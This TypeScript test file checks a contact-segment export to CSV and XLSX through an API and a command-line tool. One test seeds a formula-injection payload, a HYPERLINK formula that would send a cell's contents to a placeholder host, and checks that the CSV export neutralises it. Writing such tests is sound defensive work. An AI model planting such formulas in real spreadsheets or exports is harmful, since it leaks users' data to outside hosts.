import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestApp, type TestApp } from '../../test-support/app.js'
import { dialects } from '../../test-support/databases.js'
import { insertHeader, insertLines, seedSegmentData } from '../header/test-fixtures.js'
import { segmentContactPages } from './segment-contact-rows.js'

const CSV = [
  'Line No.,Contact No.,Name,Company No.,Company Name,Type,Job Title,Address,Address 2,Post Code,City,Country/Region Code,Phone No.,Mobile Phone No.,Email,Language Code,Salesperson Code,Correspondence Type,Cost (LCY),Duration (Min.)',
  `10000,K1,Alpha Ltd,K1,Alpha Ltd,Company,,"1 Main St, ""Rear""",,EC1A 1BB,London,GB,'+44 20 1234,,info@alpha.example,ENU,JR,Email,0,0`,
  `20000,P1,Ann Archer,K1,Alpha Ltd,Person,Buyer,,,,,,,'+44 7700 1,ann@alpha.example,,,Hard Copy,0,0`,
  '30000,GONE,,,,,,,,,,,,,,,,,0,0',
  `40000,P1,Ann Archer,K1,Alpha Ltd,Person,Buyer,,,,,,,'+44 7700 1,ann@alpha.example,,,Hard Copy,0,0`,
  '',
].join('\n')

/** The rows of the first sheet, empty cells as ''. */
async function readXlsx(data: Buffer): Promise<unknown[][]> {
  const wb = new ExcelJS.Workbook()
  await wb.xlsx.load(data as unknown as ArrayBuffer)
  const sheet = wb.worksheets[0]
  const rows: unknown[][] = []
  sheet.eachRow({ includeEmpty: false }, (row) => {
    const values: unknown[] = []
    for (let i = 1; i <= 20; i++) values.push(row.getCell(i).value ?? '')
    rows.push(values)
  })
  return [[sheet.name], ...rows]
}

describe.each(dialects)('exporting a segment on %s', (dialect) => {
  let t: TestApp
  beforeAll(async () => {
    t = await createTestApp(dialect)
    const db = t.db.kysely
    await seedSegmentData(db)
    await db
      .updateTable('contacts')
      .set({
        address: '1 Main St, "Rear"',
        post_code: 'EC1A 1BB',
        country_region_code: 'GB',
        phone_no: '+44 20 1234',
        email: 'info@alpha.example',
        language_code: 'ENU',
        salesperson_code: 'JR',
        correspondence_type: 'Email',
      })
      .where('no', '=', 'K1')
      .execute()
    await db
      .updateTable('contacts')
      .set({ mobile_phone_no: '+44 7700 1', email: 'ann@alpha.example', correspondence_type: 'Hard Copy' })
      .where('no', '=', 'P1')
      .execute()
    await insertHeader(db, 'SM1', { description: 'Export me' })
    await insertHeader(db, 'EMPTY')
    // Inserted out of order; a contact on two lines; a line whose contact is gone.
    await insertLines(db, 'SM1', [
      { line_no: 40000, contact_no: 'P1' },
      { line_no: 10000, contact_no: 'K1' },
      { line_no: 30000, contact_no: 'GONE' },
      { line_no: 20000, contact_no: 'P1' },
    ])
  })
  afterAll(() => t.close())

  it('walks the lines by key, one page at a time, in line order', async () => {
    const pages: unknown[][] = []
    for await (const page of segmentContactPages(t.db.kysely, 'SM1', 3)) pages.push(page.map((r) => r.slice(0, 2)))
    expect(pages).toEqual([
      [
        [10000, 'K1'],
        [20000, 'P1'],
        [30000, 'GONE'],
      ],
      [[40000, 'P1']],
    ])
  })

  it('exports CSV with a caption row and one row per line, as an attachment', async () => {
    const r = await t.viewer.raw({ method: 'GET', url: '/api/segments/sm1/export?format=csv' })
    expect(r.status).toBe(200)
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(r.headers['content-disposition']).toBe('attachment; filename="segment-SM1.csv"')
    expect(r.body).toBe(CSV)
  })

  it('exports XLSX that reads back with the same rows', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/segments/SM1/export?format=xlsx',
      headers: { authorization: await token(t) },
    })
    expect(res.statusCode).toBe(200)
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    expect(res.headers['content-disposition']).toBe('attachment; filename="segment-SM1.xlsx"')
    const rows = await readXlsx(res.rawPayload)
    // XLSX cells are typed text: the ' the CSV puts before a leading + (formula-cells.ts) is not there;
    // the cost and duration columns are numbers.
    const expected = (parse(CSV) as string[][]).map((r) => r.map((c) => c.replace(/^'\+/, '+')))
    expect(rows).toEqual([
      ['Segment SM1'],
      ...expected.map((r, i) => (i === 0 ? r : [Number(r[0]), ...r.slice(1, -2), ...r.slice(-2).map(Number)])),
    ])
  })

  it('exports only the caption row of an empty segment', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/segments/EMPTY/export',
      headers: { authorization: await token(t) },
    })
    expect(res.body).toBe(`${CSV.split('\n')[0]}\n`)
  })

  it('answers 404 for an unknown segment, 400 for an unknown format and 401 without credentials', async () => {
    const unknown = await t.viewer.get('/api/segments/NOPE/export')
    expect(unknown.status).toBe(404)
    expect(unknown.body.detail).toBe("The Segment Header does not exist. Identification fields and values: No.='NOPE'")
    expect((await t.viewer.get('/api/segments/SM1/export?format=pdf')).status).toBe(400)
    expect((await t.anonymous.get('/api/segments/SM1/export')).status).toBe(401)
  })

  it.runIf(dialect === 'sqlite')(
    'exports from the command line to stdout and to a file',
    async () => {
      const env = { ...process.env, SEGMENTA_DB: t.db.url }
      const cli = (args: string[]) =>
        spawnSync('npx', ['tsx', 'src/cli/main.ts', ...args], { env, encoding: 'buffer', timeout: 60_000 })
      // npx may warn about the machine's npm configuration; the command's own stderr is what counts.
      const stderr = (r: { stderr: Buffer }) =>
        r.stderr
          .toString()
          .split('\n')
          .filter((l) => !l.startsWith('npm warn'))
          .join('\n')

      const csv = cli(['export', 'segment', 'sm1'])
      expect(stderr(csv)).toBe('')
      expect(csv.status).toBe(0)
      expect(csv.stdout.toString()).toBe(CSV)

      const dir = mkdtempSync(join(tmpdir(), 'segmenta-export-'))
      try {
        const file = join(dir, 'out.xlsx')
        const xlsx = cli(['export', 'segment', 'SM1', '--format', 'xlsx', '-o', file])
        expect(xlsx.status).toBe(0)
        const rows = await readXlsx(readFileSync(file))
        expect(rows.length).toBe(6)
        expect(rows[2]).toEqual([
          10000,
          'K1',
          'Alpha Ltd',
          'K1',
          'Alpha Ltd',
          'Company',
          '',
          '1 Main St, "Rear"',
          '',
          'EC1A 1BB',
          'London',
          'GB',
          '+44 20 1234',
          '',
          'info@alpha.example',
          'ENU',
          'JR',
          'Email',
          0,
          0,
        ])
      } finally {
        rmSync(dir, { recursive: true, force: true })
      }

      const unknown = cli(['export', 'segment', 'NOPE'])
      expect(unknown.status).toBe(1)
      expect(unknown.stdout.toString()).toBe('')
      expect(stderr(unknown)).toBe(
        "segmenta: The Segment Header does not exist. Identification fields and values: No.='NOPE'\n",
      )
      expect(cli(['export', 'segment', 'SM1', '--format', 'pdf']).status).toBe(2)
    },
    180_000,
  )

  it("neutralises formulas in the CSV export with a leading ' and keeps the line numbers numbers", async () => {
    // Given a contact on the segment whose name and city a spreadsheet would run as formulas
    const db = t.db.kysely
    const was = await db
      .selectFrom('contacts')
      .select(['name', 'city'])
      .where('no', '=', 'K1')
      .executeTakeFirstOrThrow()
    await db
      .updateTable('contacts')
      .set({ name: '=HYPERLINK("http://x/?"&A1)', city: '@SUM(1)' })
      .where('no', '=', 'K1')
      .execute()
    try {
      // When the segment is exported as CSV
      const r = await t.viewer.raw({ method: 'GET', url: '/api/segments/SM1/export?format=csv' })
      // Then those cells start with ', the line number stays a bare number
      const row = (parse(r.body) as string[][])[1]
      expect([row[0], row[1], row[2], row[10], row[12]]).toEqual([
        '10000',
        'K1',
        `'=HYPERLINK("http://x/?"&A1)`,
        "'@SUM(1)",
        "'+44 20 1234",
      ])
    } finally {
      await db.updateTable('contacts').set(was).where('no', '=', 'K1').execute()
    }
  })
})

/** A bearer header of the viewer (raw inject keeps the binary body as a buffer). */
async function token(t: TestApp): Promise<string> {
  const { createToken } = await import('../../auth/credentials.js')
  return `Bearer ${(await createToken(t.db.kysely, 'viewer')).token}`
}
